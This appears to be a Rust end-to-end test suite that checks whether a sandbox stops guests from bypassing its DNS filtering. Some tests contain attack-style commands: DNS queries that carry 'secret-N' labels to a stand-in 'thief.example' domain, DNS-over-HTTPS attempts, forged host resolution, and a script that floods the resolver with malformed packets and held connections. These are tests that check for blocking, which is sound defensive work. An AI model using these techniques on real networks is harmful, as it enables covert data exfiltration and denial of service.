//! Attempts to bypass the sandbox's DNS server: other servers, other ports, DNS in other protocols, and data in names.

use std::net::Ipv4Addr;

use e2e::internet::{AAAA, Says, TCP, UDP};

use crate::guest::Guest;
use crate::world;

const PUBLIC: [Ipv4Addr; 3] =
    [Ipv4Addr::new(8, 8, 8, 8), Ipv4Addr::new(1, 1, 1, 1), Ipv4Addr::new(9, 9, 9, 9)];

/// The exit code of `dig` depends on the transport; its output does not.
async fn asks_in_vain(guest: &Guest<'_>, command: &str) {
    let said = guest.run(command).await;
    assert!(!said["stdout"].as_str().unwrap().contains("->>HEADER<<-"), "{command}: {said}");
}

/// A server that answers every name is reachable for the host, and must receive nothing.
#[tokio::test]
async fn other_servers() {
    let world = world().await;
    let listed = world.site("resolvers-listed");
    let own = world.internet.address().unwrap();
    world.internet.dns_at(own, 53).unwrap();
    let strict = world.strict(&[&listed.name]).await;
    for address in [own, PUBLIC[2]] {
        for how in ["+notcp", "+tcp", "+notcp -p 5353", "+tcp -p 5353", "+tls"] {
            let command = format!("dig +time=2 +tries=1 {how} @{address} {}", listed.name);
            asks_in_vain(&strict, &command).await;
        }
        assert_eq!(world.internet.seen().to(address), [], "{address}");
        strict
            .was_told(
                &["port", "unknown-address", "not-allowed", "malformed", "no-name"],
                &address.to_string(),
            )
            .await;
    }
}

/// The address of a listed host does not serve DNS either.
#[tokio::test]
async fn a_server_at_the_address_of_a_listed_host() {
    let world = world().await;
    let listed = world.site("doubling");
    world.internet.dns_at(listed.address, 53).unwrap();
    world.internet.echo_at(listed.address, 853).unwrap();
    let guest = world.strict(&[&listed.name]).await;
    guest.output(&format!("curl -sS --max-time 20 http://{}/hello", listed.name)).await;
    for how in ["+notcp", "+tcp", "+tls"] {
        let command = format!("dig +time=2 +tries=1 {how} @{} {}", listed.address, listed.name);
        asks_in_vain(&guest, &command).await;
    }
    guest.was_told(&["port"], &listed.address.to_string()).await;
    for (protocol, port) in [(UDP, 53), (TCP, 53), (TCP, 853), (UDP, 853)] {
        assert_eq!(world.internet.seen().at(listed.address, protocol, port), 0, "{protocol} {port}");
    }
}

/// DNS over HTTPS is a website like any other: it passes if it is listed.
#[tokio::test]
async fn names_over_https() {
    let world = world().await;
    let listed = world.site("https-listed");
    for (name, address) in [("dns.google", PUBLIC[0]), ("cloudflare-dns.com", PUBLIC[1])] {
        world.internet.names().set(name, Says::A(vec![address], 300));
    }
    let guest = world.strict(&[&listed.name, "*.google", "*.com"]).await;
    for url in [
        "https://dns.google/dns-query",
        "https://cloudflare-dns.com/dns-query",
        "https://1.1.1.1/dns-query",
        "https://8.8.8.8/dns-query",
        "--resolve dns.google:443:8.8.8.8 https://dns.google/dns-query",
    ] {
        guest.fails(&format!("curl -sS -k --max-time 10 {url}")).await;
    }
    guest.was_told(&["not-allowed"], "dns.google").await;
    // The other sandbox's policy lists it by its exact name.
    let trusting = world.strict(&["dns.google"]).await;
    assert_eq!(trusting.output("curl -sS --max-time 10 https://dns.google/dns-query").await, "an answer");
}

#[tokio::test]
async fn data_in_names() {
    let world = world().await;
    let listed = world.site("carrier");
    world.internet.names().set("*.thief.example", Says::A(vec![listed.address], 0));
    let guest = world.strict(&[&listed.name, "*.below.web.example"]).await;
    let asks = "for n in $(seq 40); do dig +short +time=2 +tries=1 secret-$n.thief.example; dig +short +time=2 +tries=1 TXT s$n.thief.example; \
        dig +short +time=2 +tries=1 $n.carrier.web.example; done; curl -sS --max-time 3 http://curl.thief.example; true";
    assert_eq!(guest.output(asks).await, "");
    guest.was_told(&["not-allowed"], "secret-1.thief.example").await;
    assert_eq!(world.internet.names().asked("thief.example"), []);
    assert_eq!(world.internet.names().asked("1.carrier.web.example"), []);
    // A forged name is not looked up either.
    guest
        .fails(&format!(
            "curl -sS --max-time 5 -k --resolve x.thief.example:443:{} https://x.thief.example",
            listed.address
        ))
        .await;
    assert_eq!(world.internet.names().asked("thief.example"), []);
}

/// Invalid and oversized questions do no harm.
#[tokio::test]
async fn broken_questions() {
    let world = world().await;
    let listed = world.site("questions");
    let guest = world.strict(&[&listed.name]).await;
    let program = r#"
server = open("/etc/resolv.conf").read().split()[1]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect((server, 53)); u.settimeout(0.2)
heads = [b"\x12\x34\x01\x00\x00\x01" + bytes(6), b"\x12\x34\x81\x80\x00\x01" + bytes(6), b"\x12\x34\x01\x00\xff\xff" * 2]
for head in heads:
    for body in [b"", b"\xc0\x0c\x00\x01\x00\x01", b"\x3f" + b"a" * 10, (b"\x3fx" + b"a" * 62) * 8, b"\xff" * 3000, os.urandom(300), b"\x00\x00\xff\x00\x01"]:
        u.send(head + body)
        t = tcp(server, 53); t.send(struct.pack("!H", len(head + body)) + head + body); t.close()
held = [tcp(server, 53) for n in range(60)]
print("asked")
"#;
    assert_eq!(guest.python(program).await, "asked\n");
    assert_eq!(
        guest.output(&format!("dig +short +time=5 +tries=1 {}", listed.name)).await,
        format!("{}\n", listed.address)
    );
}

/// The upstream server is dead: the client gets an error soon.
#[tokio::test]
async fn a_dead_server_upstream() {
    let world = world().await;
    world.internet.names().set("dead.web.example", Says::Silence);
    world.internet.names().set("ill.web.example", Says::Failure);
    let guest = world.strict(&["dead.web.example", "ill.web.example"]).await;
    for name in ["dead.web.example", "ill.web.example"] {
        let begin = std::time::Instant::now();
        assert!(guest.output(&format!("dig +time=5 +tries=1 {name}")).await.contains("SERVFAIL"));
        assert!(begin.elapsed().as_secs_f64() < 4.0, "{name} took {:?}", begin.elapsed());
    }
}

/// IPv6 answers are empty and give no hints.
#[tokio::test]
async fn other_kinds_of_answers() {
    let world = world().await;
    let six = "six.web.example";
    world.internet.names().set(six, Says::Aaaa(vec!["2001:db8:ffff::6".parse().unwrap()], 60));
    let guest = world.open().await;
    for kind in ["AAAA", "HTTPS", "SVCB", "ANY"] {
        let said = guest.output(&format!("dig +time=3 +tries=1 {kind} {six}")).await;
        assert!(!said.contains("2001:db8"), "{said}");
    }
    guest.fails(&format!("curl -sS --max-time 5 http://{six}/hello")).await;
    guest.fails("curl -sS --max-time 5 'http://[2001:db8:ffff::6]/hello'").await;
    assert_eq!(world.internet.names().asked(six).iter().filter(|(_, kind)| *kind == AAAA).count(), 0);
    assert_eq!(world.internet.seen().ipv6(), []);
}
